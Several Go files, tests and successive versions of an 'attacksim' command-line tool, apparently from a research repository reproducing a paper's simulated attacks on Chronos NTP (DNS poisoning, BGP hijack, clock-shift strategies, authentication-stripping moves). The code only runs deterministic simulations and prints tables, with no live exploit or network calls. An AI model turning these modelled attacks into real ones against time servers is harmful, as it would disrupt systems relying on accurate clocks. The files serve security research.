		t.Fatalf("-fleet -trials should point at E9: %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-h"}); err != nil {
		t.Fatalf("-h should exit cleanly, got %v", err)
	}
	for _, args := range [][]string{
		{"-fleet", "-sweep", "mechanism"},
		{"-fleet", "-experiment", "E1"},
		{"-sweep", "mechanism", "-experiment", "E1"},
		{"-experiment", "E9", "-poisoned", "3"},
		{"-sweep", "mitigation", "-clients", "99999"},
		{"-experiment", "E1", "-clients", "5000"},
	} {
		if err := run(&strings.Builder{}, args); err == nil {
			t.Fatalf("conflicting flags %v were silently accepted", args)
		}
	}
	if err := run(&strings.Builder{}, []string{"-experiment", "E42"}); err == nil || !strings.Contains(err.Error(), "E1..E11") {
		t.Fatalf("unknown experiment error unhelpful: %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-sweep", "nope"}); err == nil || !strings.Contains(err.Error(), "valid axes") {
		t.Fatalf("unknown sweep axis error unhelpful: %v", err)
	}
}

func TestRunFleetEndToEnd(t *testing.T) {
	var sb strings.Builder
	err := run(&sb, []string{"-fleet", "-clients", "60", "-resolvers", "3", "-poisoned", "1", "-seed", "5"})
	if err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{"== FLEET:", "amplification", "shard"} {
		if !strings.Contains(out, want) {
			t.Fatalf("fleet output missing %q:\n%s", want, out)
		}
	}
}

func TestShiftFlagsOnlyApplyToE10(t *testing.T) {
	for _, args := range [][]string{
		{"-shift", "50ms"},
		{"-experiment", "E1", "-horizon", "24h"},
		{"-experiment", "E9", "-strategy", "greedy"},
		{"-fleet", "-shift", "50ms"},
		{"-sweep", "mechanism", "-horizon", "1h"},
	} {
		if err := run(&strings.Builder{}, args); err == nil || !strings.Contains(err.Error(), "E10") {
			t.Fatalf("run(%v) should reject shift flags outside E10, got %v", args, err)
		}
	}
}

func TestShiftFlagValidation(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-experiment", "E10", "-shift", "-1s"}); err == nil {
		t.Fatal("accepted negative -shift")
	}
	if err := run(&strings.Builder{}, []string{"-experiment", "E10", "-strategy", "sneaky"}); err == nil ||
		!strings.Contains(err.Error(), "greedy") {
		t.Fatalf("unknown -strategy should list the valid ones, got %v", err)
	}
}

// TestAuthFlagsOnlyApplyToE11 is the rejection matrix for the E11 flags:
// -auth and -quorum must be refused in every other mode rather than
// silently discarded.
func TestAuthFlagsOnlyApplyToE11(t *testing.T) {
	for _, args := range [][]string{
		{"-auth", "mac-strip"},
		{"-experiment", "E1", "-auth", "forge-kod"},
		{"-experiment", "E10", "-quorum", "3"},
		{"-fleet", "-auth", "shift"},
		{"-sweep", "mechanism", "-quorum", "5"},
	} {
		if err := run(&strings.Builder{}, args); err == nil || !strings.Contains(err.Error(), "E11") {
			t.Fatalf("run(%v) should reject auth flags outside E11, got %v", args, err)
		}
	}
}

func TestAuthFlagValidation(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-experiment", "E11", "-auth", "teleport"}); err == nil ||
		!strings.Contains(err.Error(), "mac-strip") {
		t.Fatalf("unknown -auth should list the valid moves, got %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-experiment", "E11", "-quorum", "-1"}); err == nil {
		t.Fatal("accepted negative -quorum")
	}
}

// TestE11EndToEnd runs the arms-race experiment through the real CLI
// path restricted to one move, checking both policy arms reach stdout.
func TestE11EndToEnd(t *testing.T) {
	var out strings.Builder
	err := run(&out, []string{"-experiment", "E11", "-seed", "3", "-auth", "mac-strip"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"E11", "mac-strip", "minsources-3", "c1c2", "sha256", "> horizon"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("E11 output missing %q:\n%s", want, out.String())
		}
	}
	// The notes legend names every registered move; only *rows* (which
	// start the line with the move) must be restricted to the selection.
	if strings.Contains(out.String(), "\nforge-kod") {
		t.Fatalf("-auth mac-strip still swept other moves:\n%s", out.String())
	}
}

// TestE10EndToEnd runs the experiment through the real CLI path with a
// short horizon and a single strategy, checking the table reaches stdout.
func TestE10EndToEnd(t *testing.T) {
	var out strings.Builder
	err := run(&out, []string{
		"-experiment", "E10", "-seed", "3",
		"-horizon", "6h", "-strategy", "greedy",
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"E10", "greedy", "§V caps", "89/133", "closed-form"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("E10 output missing %q:\n%s", want, out.String())
		}
	}
}

// TestUsageCoversAllFlags regenerates the help text from the flag set and
// asserts every registered flag appears in it — the E9/E10 flags can never
// again be missing from -help.
func TestUsageCoversAllFlags(t *testing.T) {
	var o options
	fs := newFlagSet(&o)
	var buf bytes.Buffer
	fs.SetOutput(&buf)
	fs.Usage()
	help := buf.String()
	fs.VisitAll(func(f *flag.Flag) {
		if !strings.Contains(help, "-"+f.Name) {
			t.Errorf("usage text omits registered flag -%s", f.Name)
		}
	})
	for _, want := range []string{"-fleet", "-shift", "-strategy", "-checkpoint", "-resume"} {
		if !strings.Contains(help, want) {
			t.Errorf("usage text missing %s", want)
		}
	}
}

func TestJSONOutput(t *testing.T) {
	var out strings.Builder
	if err := run(&out, []string{"-experiment", "E3", "-json"}); err != nil {
		t.Fatal(err)
	}
	var env struct {
		Schema  string `json:"schema"`
		Kind    string `json:"kind"`
		Meta    struct{ ID string }
		Payload json.RawMessage `json:"payload"`
	}
	if err := json.Unmarshal([]byte(out.String()), &env); err != nil {
		t.Fatalf("-json output is not JSON: %v\n%s", err, out.String())
	}
	if env.Schema == "" || env.Kind != "forged-capacity" {
		t.Fatalf("unexpected envelope: schema=%q kind=%q", env.Schema, env.Kind)
	}
	if err := run(&strings.Builder{}, []string{"-fleet", "-json"}); err == nil {
		t.Fatal("-fleet -json should be rejected")
	}
}

func TestCheckpointFlagValidation(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-experiment", "E1", "-checkpoint", "x.json"}); err == nil ||
		!strings.Contains(err.Error(), "E10") {
		t.Fatalf("-checkpoint outside E10/-sweep should be rejected, got %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-experiment", "E10", "-checkpoint", "a", "-resume", "b"}); err == nil {
		t.Fatal("-checkpoint with -resume should be rejected")
	}
}

// e10Args is the short E10 configuration the checkpoint tests share.
func e10Args(extra ...string) []string {
	args := []string{
		"-experiment", "E10", "-seed", "3", "-trials", "2",
		"-horizon", "6h", "-strategy", "greedy",
	}
	return append(args, extra...)
}

// TestE10CheckpointResumeBitIdentical is the acceptance-criterion test:
// an E10 run checkpointed to a file, "killed" mid-run (the file truncated
// to a prefix of completed trials plus a partial trailing line, exactly
// what a mid-write kill leaves), and resumed with -resume produces output
// bit-identical to an uninterrupted run.
func TestE10CheckpointResumeBitIdentical(t *testing.T) {
	dir := t.TempDir()

	// Reference: uninterrupted run, no checkpoint.
	var ref strings.Builder
	if err := run(&ref, e10Args()); err != nil {
		t.Fatal(err)
	}

	// Full checkpointed run — output must already match.
	full := filepath.Join(dir, "full.json")
	var chk strings.Builder
	if err := run(&chk, e10Args("-checkpoint", full)); err != nil {
		t.Fatal(err)
	}
	if chk.String() != ref.String() {
		t.Fatalf("checkpointed run differs from plain run:\n--- plain ---\n%s\n--- checkpointed ---\n%s", ref.String(), chk.String())
	}

	// Simulate the kill: keep the header and the first 5 completed-trial
	// lines, then a torn partial write with no trailing newline.
	data, err := os.ReadFile(full)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitAfter(string(data), "\n")
	if len(lines) < 8 {
		t.Fatalf("checkpoint has only %d lines, expected header + 16 trials", len(lines))
	}
	killed := filepath.Join(dir, "killed.json")
	torn := strings.Join(lines[:6], "") + `{"index":14,"resul`
	if err := os.WriteFile(killed, []byte(torn), 0o644); err != nil {
		t.Fatal(err)
	}

	// Resume must complete the remaining trials and reproduce the bytes.
	var res strings.Builder
	if err := run(&res, e10Args("-resume", killed)); err != nil {
		t.Fatal(err)
	}
	if res.String() != ref.String() {
		t.Fatalf("resumed run is not bit-identical to the uninterrupted run:\n--- uninterrupted ---\n%s\n--- resumed ---\n%s", ref.String(), res.String())
	}
}

// TestE10ResumeRejectsOtherConfig ensures a checkpoint written under one
// configuration cannot silently poison a different run.
func TestE10ResumeRejectsOtherConfig(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "ckpt.json")
	if err := run(&strings.Builder{}, e10Args("-checkpoint", path)); err != nil {
		t.Fatal(err)
	}
	err := run(&strings.Builder{}, []string{
		"-experiment", "E10", "-seed", "4", "-trials", "2",
		"-horizon", "6h", "-strategy", "greedy", "-resume", path,
	})
	if err == nil || !strings.Contains(err.Error(), "different run configuration") {
		t.Fatalf("resume under a different seed should be rejected, got %v", err)
	}
}

// TestSweepCheckpointResume exercises the core.Result checkpoint path
// through the -sweep mode.
func TestSweepCheckpointResume(t *testing.T) {
	dir := t.TempDir()
	args := func(extra ...string) []string {
		return append([]string{"-sweep", "mechanism", "-seed", "2"}, extra...)
	}
	var ref strings.Builder
	if err := run(&ref, args()); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "sweep.json")
	var chk strings.Builder
	if err := run(&chk, args("-checkpoint", path)); err != nil {
		t.Fatal(err)
	}
	if chk.String() != ref.String() {
		t.Fatal("checkpointed sweep differs from plain sweep")
	}
	// Drop the last completed trial and resume.
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitAfter(string(data), "\n")
	if err := os.WriteFile(path, []byte(strings.Join(lines[:len(lines)-2], "")), 0o644); err != nil {
		t.Fatal(err)
	}
	var res strings.Builder
	if err := run(&res, args("-resume", path)); err != nil {
		t.Fatal(err)
	}
	if res.String() != ref.String() {
		t.Fatalf("resumed sweep is not bit-identical:\n--- plain ---\n%s\n--- resumed ---\n%s", ref.String(), res.String())
	}
}
