package main

import (
	"strings"
	"testing"
)

func TestParseSweepRejectsUnknownAxis(t *testing.T) {
	for _, dims := range []string{"mechansim", "poisonquery,typo", "fleet"} {
		_, err := parseSweep(dims, 1, 1)
		if err == nil {
			t.Fatalf("parseSweep(%q) accepted an unknown axis", dims)
		}
		for _, axis := range []string{"mechanism", "poisonquery", "mitigation"} {
			if !strings.Contains(err.Error(), axis) {
				t.Fatalf("parseSweep(%q) error %q does not list valid axis %q", dims, err, axis)
			}
		}
	}
}

func TestParseSweepRejectsEmpty(t *testing.T) {
	for _, dims := range []string{"", " , ,"} {
		if _, err := parseSweep(dims, 1, 1); err == nil {
			t.Fatalf("parseSweep(%q) accepted an empty axis list", dims)
		}
	}
}

func TestParseSweepExpandsAxes(t *testing.T) {
	grid, err := parseSweep(" mechanism , poisonquery,mitigation", 3, 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(grid.Mechanisms) != 4 || len(grid.PoisonQueries) != 24 || len(grid.Toggles) == 0 {
		t.Fatalf("axes not expanded: %d mechanisms, %d queries, %d toggles",
			len(grid.Mechanisms), len(grid.PoisonQueries), len(grid.Toggles))
	}
	if len(grid.Seeds) != 2 || grid.Seeds[0] != 3 {
		t.Fatalf("seeds not threaded: %v", grid.Seeds)
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-trials", "0"}); err == nil {
		t.Fatal("accepted -trials 0")
	}
	if err := run(&strings.Builder{}, []string{"-fleet", "-clients", "-5"}); err == nil {
		t.Fatal("accepted negative -clients")
	}
	if err := run(&strings.Builder{}, []string{"-fleet", "-trials", "4"}); err == nil || !strings.Contains(err.Error(), "E9") {
		t.Fatalf("-fleet -trials should point at E9: %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-h"}); err != nil {
		t.Fatalf("-h should exit cleanly, got %v", err)
	}
	for _, args := range [][]string{
		{"-fleet", "-sweep", "mechanism"},
		{"-fleet", "-experiment", "E1"},
		{"-sweep", "mechanism", "-experiment", "E1"},
		{"-experiment", "E9", "-poisoned", "3"},
		{"-sweep", "mitigation", "-clients", "99999"},
		{"-experiment", "E1", "-clients", "5000"},
	} {
		if err := run(&strings.Builder{}, args); err == nil {
			t.Fatalf("conflicting flags %v were silently accepted", args)
		}
	}
	if err := run(&strings.Builder{}, []string{"-experiment", "E42"}); err == nil || !strings.Contains(err.Error(), "E1..E10") {
		t.Fatalf("unknown experiment error unhelpful: %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-sweep", "nope"}); err == nil || !strings.Contains(err.Error(), "valid axes") {
		t.Fatalf("unknown sweep axis error unhelpful: %v", err)
	}
}

func TestRunFleetEndToEnd(t *testing.T) {
	var sb strings.Builder
	err := run(&sb, []string{"-fleet", "-clients", "60", "-resolvers", "3", "-poisoned", "1", "-seed", "5"})
	if err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{"== FLEET:", "amplification", "shard"} {
		if !strings.Contains(out, want) {
			t.Fatalf("fleet output missing %q:\n%s", want, out)
		}
	}
}

func TestShiftFlagsOnlyApplyToE10(t *testing.T) {
	for _, args := range [][]string{
		{"-shift", "50ms"},
		{"-experiment", "E1", "-horizon", "24h"},
		{"-experiment", "E9", "-strategy", "greedy"},
		{"-fleet", "-shift", "50ms"},
		{"-sweep", "mechanism", "-horizon", "1h"},
	} {
		if err := run(&strings.Builder{}, args); err == nil || !strings.Contains(err.Error(), "E10") {
			t.Fatalf("run(%v) should reject shift flags outside E10, got %v", args, err)
		}
	}
}

func TestShiftFlagValidation(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-experiment", "E10", "-shift", "-1s"}); err == nil {
		t.Fatal("accepted negative -shift")
	}
	if err := run(&strings.Builder{}, []string{"-experiment", "E10", "-strategy", "sneaky"}); err == nil ||
		!strings.Contains(err.Error(), "greedy") {
		t.Fatalf("unknown -strategy should list the valid ones, got %v", err)
	}
}

// TestE10EndToEnd runs the experiment through the real CLI path with a
// short horizon and a single strategy, checking the table reaches stdout.
func TestE10EndToEnd(t *testing.T) {
	var out strings.Builder
	err := run(&out, []string{
		"-experiment", "E10", "-seed", "3",
		"-horizon", "6h", "-strategy", "greedy",
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"E10", "greedy", "§V caps", "89/133", "closed-form"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("E10 output missing %q:\n%s", want, out.String())
		}
	}
}
