// Command attacksim runs the reproduction experiments and prints the
// paper-vs-measured tables.
//
// Usage:
//
//	attacksim [-seed N] [-experiment all|E1|E2|E3|E4|E5|E6|E7]
package main

import (
	"flag"
	"fmt"
	"os"

	"chronosntp/internal/eval"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "attacksim:", err)
		os.Exit(1)
	}
}

func run() error {
	seed := flag.Int64("seed", 1, "deterministic simulation seed")
	experiment := flag.String("experiment", "all", "experiment id (E1..E8) or 'all'")
	flag.Parse()

	runners := map[string]func() (*eval.Table, error){
		"E1": func() (*eval.Table, error) { return eval.Figure1(*seed) },
		"E2": func() (*eval.Table, error) { return eval.AttackWindow(*seed) },
		"E3": eval.MaxAddresses,
		"E4": eval.ChronosSecurity,
		"E5": func() (*eval.Table, error) { return eval.FragmentationStudy(*seed) },
		"E6": func() (*eval.Table, error) { return eval.TimeShift(*seed) },
		"E7": func() (*eval.Table, error) { return eval.Mitigations(*seed) },
		"E8": func() (*eval.Table, error) { return eval.Ablations(*seed) },
	}
	if *experiment == "all" {
		tables, err := eval.All(*seed)
		if err != nil {
			return err
		}
		for _, t := range tables {
			fmt.Println(t.Render())
		}
		return nil
	}
	runner, ok := runners[*experiment]
	if !ok {
		return fmt.Errorf("unknown experiment %q (want E1..E8 or all)", *experiment)
	}
	t, err := runner()
	if err != nil {
		return err
	}
	fmt.Println(t.Render())
	return nil
}
