// Command attacksim runs the reproduction experiments and prints the
// paper-vs-measured tables.
//
// Usage:
//
//	attacksim [-seed N] [-trials N] [-parallel N] [-experiment all|E1|E2|E3|E4|E5|E6|E7|E8]
//	attacksim [-seed N] [-trials N] [-parallel N] -sweep mechanism,poisonquery[,mitigation]
//
// With -trials > 1 every scenario-backed experiment becomes a Monte-Carlo
// run: each number is reported as mean ± 95% CI across independently
// seeded replicas, fanned across -parallel workers (default GOMAXPROCS).
// The aggregates are bit-identical at any -parallel value.
//
// -sweep runs the internal/runner grid engine directly over the named
// dimensions (any comma-separated subset of mechanism, poisonquery,
// mitigation) and prints one aggregate row per grid point.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"strings"

	"chronosntp/internal/core"
	"chronosntp/internal/eval"
	"chronosntp/internal/runner"
	"chronosntp/internal/stats"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "attacksim:", err)
		os.Exit(1)
	}
}

func run() error {
	seed := flag.Int64("seed", 1, "deterministic simulation seed (first of the replica block)")
	experiment := flag.String("experiment", "all", "experiment id (E1..E8) or 'all'")
	trials := flag.Int("trials", 1, "Monte-Carlo replicas per scenario (1 = the paper's single-seed tables)")
	parallel := flag.Int("parallel", 0, "worker count for the trial pool (0 = GOMAXPROCS)")
	sweep := flag.String("sweep", "", "comma-separated grid dimensions to sweep: mechanism,poisonquery,mitigation")
	flag.Parse()

	if *trials < 1 {
		return fmt.Errorf("-trials must be ≥ 1, got %d", *trials)
	}
	if *sweep != "" {
		return runSweep(*sweep, *seed, *trials, *parallel)
	}

	runners := map[string]func() (*eval.Table, error){
		"E1": func() (*eval.Table, error) { return eval.Figure1(*seed, *trials, *parallel) },
		"E2": func() (*eval.Table, error) { return eval.AttackWindow(*seed, *trials, *parallel) },
		"E3": eval.MaxAddresses,
		"E4": eval.ChronosSecurity,
		"E5": func() (*eval.Table, error) { return eval.FragmentationStudy(*seed, *trials, *parallel) },
		"E6": func() (*eval.Table, error) { return eval.TimeShift(*seed, *trials, *parallel) },
		"E7": func() (*eval.Table, error) { return eval.Mitigations(*seed, *trials, *parallel) },
		"E8": func() (*eval.Table, error) { return eval.Ablations(*seed, *trials, *parallel) },
	}
	if *experiment == "all" {
		tables, err := eval.All(*seed, *trials, *parallel)
		if err != nil {
			return err
		}
		for _, t := range tables {
			fmt.Println(t.Render())
		}
		return nil
	}
	r, ok := runners[*experiment]
	if !ok {
		return fmt.Errorf("unknown experiment %q (want E1..E8 or all)", *experiment)
	}
	t, err := r()
	if err != nil {
		return err
	}
	fmt.Println(t.Render())
	return nil
}

// runSweep expands the requested dimensions into a runner.Grid, fans it
// across the worker pool, and prints one aggregate row per grid point.
func runSweep(dims string, seed int64, trials, parallel int) error {
	grid := runner.Grid{
		Base:  core.Config{Mechanism: core.Defrag, PoisonQuery: 12},
		Seeds: runner.Seeds(seed, trials),
	}
	for _, dim := range strings.Split(dims, ",") {
		switch strings.TrimSpace(dim) {
		case "mechanism":
			grid.Mechanisms = []core.Mechanism{
				core.NoAttack, core.Defrag, core.BGPHijack, core.BGPHijackPersistent,
			}
		case "poisonquery":
			for q := 1; q <= 24; q++ {
				grid.PoisonQueries = append(grid.PoisonQueries, q)
			}
		case "mitigation":
			grid.Toggles = eval.MitigationToggles()
		case "":
		default:
			return fmt.Errorf("unknown sweep dimension %q (want mechanism, poisonquery, mitigation)", dim)
		}
	}

	gridTrials := grid.Trials()
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return err
	}

	t := &eval.Table{
		ID:    "SWEEP",
		Title: fmt.Sprintf("grid sweep over %s — %d points × %d trials", dims, len(runner.Points(gridTrials)), trials),
		Columns: []string{
			"point", "trials", "attacker-fraction", "pool-benign", "pool-malicious", "planted",
		},
	}
	groups := runner.ByPoint(gridTrials, results)
	for _, point := range runner.Points(gridTrials) {
		rs := groups[point]
		var fraction, benign, malicious []float64
		planted := 0
		for _, r := range rs {
			fraction = append(fraction, r.AttackerFraction)
			benign = append(benign, float64(r.PoolBenign))
			malicious = append(malicious, float64(r.PoolMalicious))
			if r.PoisonPlanted {
				planted++
			}
		}
		t.AddRow(point, len(rs),
			summaryCell(fraction, eval.FormatFraction),
			summaryCell(benign, eval.FormatCount),
			summaryCell(malicious, eval.FormatCount),
			fmt.Sprintf("%d/%d", planted, len(rs)))
	}
	t.Notes = append(t.Notes,
		"± values are normal 95% CIs of the mean across the seed replicas of each grid point",
		"aggregates are bit-identical at any -parallel value (order-independent reduction keyed by trial index)",
	)
	fmt.Println(t.Render())
	return nil
}

// summaryCell reduces a metric series and renders it with the shared eval
// formatter, so sweep cells match the experiment tables byte for byte.
func summaryCell(xs []float64, format func(stats.Summary) string) string {
	s, err := stats.Describe(xs)
	if err != nil {
		return "-"
	}
	return format(s)
}
