// Command attacksim runs the reproduction experiments and prints the
// paper-vs-measured tables. See EXPERIMENTS.md (generated) for the catalog
// of experiments E1–E11.
//
// Usage:
//
//	attacksim [-seed N] [-trials N] [-parallel N] [-experiment all|E1..E11] [-json]
//	attacksim [-seed N] [-trials N] [-parallel N] -sweep mechanism,poisonquery[,mitigation]
//	attacksim [-seed N] [-parallel N] -fleet [-clients N] [-resolvers N] [-poisoned N]
//	attacksim [-seed N] [-trials N] -experiment E10 [-shift D] [-horizon D] [-strategy S]
//	attacksim [-seed N] [-trials N] -experiment E11 [-auth M] [-quorum N]
//	attacksim -experiment E10 -checkpoint f.json   # persist completed trials as they finish
//	attacksim -experiment E10 -resume f.json       # restore them and run only the rest
//
// With -trials > 1 every scenario-backed experiment becomes a Monte-Carlo
// run: each number is reported as mean ± 95% CI across independently
// seeded replicas, fanned across -parallel workers (default GOMAXPROCS).
// The aggregates are bit-identical at any -parallel value.
//
// -sweep runs the internal/runner grid engine directly over the named
// dimensions (any comma-separated subset of mechanism, poisonquery,
// mitigation) and prints one aggregate row per grid point.
//
// -fleet runs a single population-scale simulation (internal/fleet):
// -clients behind -resolvers shared caches with -poisoned of them
// attacked, printing the per-shard and population tables. -clients and
// -resolvers also size the E9 sweep.
//
// -shift, -horizon and -strategy parameterise the E10 long-horizon shift
// study (internal/shiftsim): the target clock shift, the virtual-time
// budget per trial, and the attacker strategy (greedy, stealth,
// intermittent, honest-until-threshold, or all).
//
// -auth and -quorum parameterise the E11 authentication arms race: the
// attacker's auth-layer move (shift, mac-strip, forge-kod, cookie-replay,
// or all) and the minsources quorum size of the policy contrast (0 = 3).
//
// -checkpoint and -resume (E10 and -sweep) persist every completed trial
// to a JSONL file as it finishes and restore it on resume; because every
// trial is deterministic given its seed and the reduction is keyed by
// trial index, a resumed run's output is bit-identical to an
// uninterrupted one. -resume validates the file against the run's
// configuration fingerprint and rejects checkpoints from different runs.
//
// -json prints the experiment's typed eval.Result as JSON instead of the
// rendered table (the table is derived from the same struct).
//
// -cpuprofile and -memprofile write pprof profiles of the run (any mode).
// Work is annotated with pprof labels — experiment=E5, mode=fleet, … — so
// `go tool pprof -tagfocus` can attribute samples when one invocation runs
// several experiments.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"runtime"
	"runtime/pprof"
	"sort"
	"strings"
	"time"

	"chronosntp/internal/core"
	"chronosntp/internal/eval"
	"chronosntp/internal/fleet"
	"chronosntp/internal/runner"
	"chronosntp/internal/shiftsim"
	"chronosntp/internal/stats"
)

func main() {
	if err := run(os.Stdout, os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "attacksim:", err)
		os.Exit(1)
	}
}

// options collects the parsed command line.
type options struct {
	seed       int64
	experiment string
	trials     int
	parallel   int
	sweep      string
	jsonOut    bool

	fleet     bool
	clients   int
	resolvers int
	poisoned  int

	shift    time.Duration
	horizon  time.Duration
	strategy string

	auth   string
	quorum int

	checkpoint string
	resume     string

	cpuprofile string
	memprofile string
}

// modeSynopses are the command forms usage prints above the flag list.
// The flag descriptions themselves come from the flag set (PrintDefaults),
// so a newly registered flag can never be missing from -help.
var modeSynopses = []string{
	"attacksim [-seed N] [-trials N] [-parallel N] [-experiment all|E1..E11] [-json]",
	"attacksim [-seed N] [-trials N] [-parallel N] -sweep mechanism,poisonquery[,mitigation]",
	"attacksim [-seed N] [-parallel N] -fleet [-clients N] [-resolvers N] [-poisoned N]",
	"attacksim [-seed N] [-trials N] -experiment E10 [-shift D] [-horizon D] [-strategy S]",
	"attacksim [-seed N] [-trials N] -experiment E11 [-auth all|shift|mac-strip|forge-kod|cookie-replay] [-quorum N]",
	"attacksim -experiment E10|-sweep … -checkpoint f.json    (persist trials as they finish)",
	"attacksim -experiment E10|-sweep … -resume f.json        (restore them, run only the rest)",
}

// newFlagSet registers every flag and derives the usage text from the
// flag set itself.
func newFlagSet(o *options) *flag.FlagSet {
	fs := flag.NewFlagSet("attacksim", flag.ContinueOnError)
	fs.Int64Var(&o.seed, "seed", 1, "deterministic simulation seed (first of the replica block)")
	fs.StringVar(&o.experiment, "experiment", "all", "experiment id (E1..E11) or 'all'")
	fs.IntVar(&o.trials, "trials", 1, "Monte-Carlo replicas per scenario (1 = the paper's single-seed tables)")
	fs.IntVar(&o.parallel, "parallel", 0, "worker count for the trial pool (0 = GOMAXPROCS)")
	fs.StringVar(&o.sweep, "sweep", "", "comma-separated grid dimensions to sweep: "+strings.Join(sweepAxisNames(), ", "))
	fs.BoolVar(&o.jsonOut, "json", false, "print the typed eval.Result as JSON instead of the rendered table")
	fs.BoolVar(&o.fleet, "fleet", false, "run one population-scale fleet simulation instead of an experiment")
	fs.IntVar(&o.clients, "clients", 0, "fleet client population (0 = default 1000; also sizes E9)")
	fs.IntVar(&o.resolvers, "resolvers", 0, "fleet shared-resolver count (0 = default 10; also sizes E9)")
	fs.IntVar(&o.poisoned, "poisoned", 1, "resolvers the -fleet attacker poisons (largest fan-out first)")
	fs.DurationVar(&o.shift, "shift", 0, "E10 target clock shift (0 = default 100ms)")
	fs.DurationVar(&o.horizon, "horizon", 0, "E10 virtual-time budget per trial (0 = default 168h)")
	fs.StringVar(&o.strategy, "strategy", "all", "E10 attacker strategy: "+strings.Join(shiftsim.Names(), ", ")+", or all")
	fs.StringVar(&o.auth, "auth", "all", "E11 attacker auth-layer move: "+strings.Join(shiftsim.AuthMoves(), ", ")+", or all")
	fs.IntVar(&o.quorum, "quorum", 0, "E11 minsources quorum size for the policy contrast (0 = default 3)")
	fs.StringVar(&o.checkpoint, "checkpoint", "", "start a fresh checkpoint file; persists completed trials (E10 and -sweep)")
	fs.StringVar(&o.resume, "resume", "", "resume from an existing checkpoint file (E10 and -sweep)")
	fs.StringVar(&o.cpuprofile, "cpuprofile", "", "write a CPU profile of the run to this file")
	fs.StringVar(&o.memprofile, "memprofile", "", "write an end-of-run heap profile to this file")
	fs.Usage = func() {
		w := fs.Output()
		fmt.Fprintln(w, "attacksim — chronosntp reproduction experiments (catalog: EXPERIMENTS.md)")
		fmt.Fprintln(w)
		fmt.Fprintln(w, "Usage:")
		for _, s := range modeSynopses {
			fmt.Fprintln(w, "  "+s)
		}
		fmt.Fprintln(w)
		fmt.Fprintln(w, "Flags:")
		fs.PrintDefaults()
	}
	return fs
}

func parseFlags(args []string) (options, error) {
	var o options
	fs := newFlagSet(&o)
	if err := fs.Parse(args); err != nil {
		return o, err
	}
	set := map[string]bool{}
	fs.Visit(func(f *flag.Flag) { set[f.Name] = true })
	if o.trials < 1 {
		return o, fmt.Errorf("-trials must be ≥ 1, got %d", o.trials)
	}
	if o.clients < 0 || o.resolvers < 0 || o.poisoned < 0 {
		return o, fmt.Errorf("-clients, -resolvers and -poisoned must be ≥ 0")
	}
	// The three modes (-experiment, -sweep, -fleet) are mutually
	// exclusive, and mode-specific flags error rather than being silently
	// discarded.
	if o.fleet && set["sweep"] {
		return o, fmt.Errorf("-fleet and -sweep are mutually exclusive")
	}
	if o.fleet && set["experiment"] {
		return o, fmt.Errorf("-fleet and -experiment are mutually exclusive (E9 is the fleet sweep)")
	}
	if o.sweep != "" && set["experiment"] {
		return o, fmt.Errorf("-sweep and -experiment are mutually exclusive")
	}
	if o.fleet && o.trials > 1 {
		return o, fmt.Errorf("-fleet runs a single population simulation; use -experiment E9 -trials %d for replicas", o.trials)
	}
	if set["poisoned"] && !o.fleet {
		return o, fmt.Errorf("-poisoned only applies to -fleet (the E9 sweep varies the poisoned count itself)")
	}
	sizeable := o.fleet || (o.sweep == "" && (o.experiment == "E9" || o.experiment == "all"))
	if (set["clients"] || set["resolvers"]) && !sizeable {
		return o, fmt.Errorf("-clients/-resolvers only apply to -fleet, -experiment E9 or -experiment all")
	}
	shiftable := !o.fleet && o.sweep == "" && o.experiment == "E10"
	if (set["shift"] || set["horizon"] || set["strategy"]) && !shiftable {
		return o, fmt.Errorf("-shift/-horizon/-strategy only apply to -experiment E10 (all runs E10 at its defaults)")
	}
	if o.shift < 0 || o.horizon < 0 {
		return o, fmt.Errorf("-shift and -horizon must be ≥ 0")
	}
	if o.strategy != "all" {
		if _, err := shiftsim.ByName(o.strategy); err != nil {
			return o, err
		}
	}
	authable := !o.fleet && o.sweep == "" && o.experiment == "E11"
	if (set["auth"] || set["quorum"]) && !authable {
		return o, fmt.Errorf("-auth/-quorum only apply to -experiment E11 (all runs E11 at its defaults)")
	}
	if o.auth != "all" && shiftsim.AuthMoveDescription(o.auth) == "" {
		return o, fmt.Errorf("unknown auth move %q (valid: %s, or all)", o.auth, strings.Join(shiftsim.AuthMoves(), ", "))
	}
	if o.quorum < 0 {
		return o, fmt.Errorf("-quorum must be ≥ 0")
	}
	if o.checkpoint != "" && o.resume != "" {
		return o, fmt.Errorf("-checkpoint and -resume are mutually exclusive (resume appends to the existing file)")
	}
	checkpointable := o.sweep != "" || (!o.fleet && o.experiment == "E10")
	if (o.checkpoint != "" || o.resume != "") && !checkpointable {
		return o, fmt.Errorf("-checkpoint/-resume currently apply to -experiment E10 and -sweep")
	}
	if o.jsonOut && (o.fleet || o.sweep != "") {
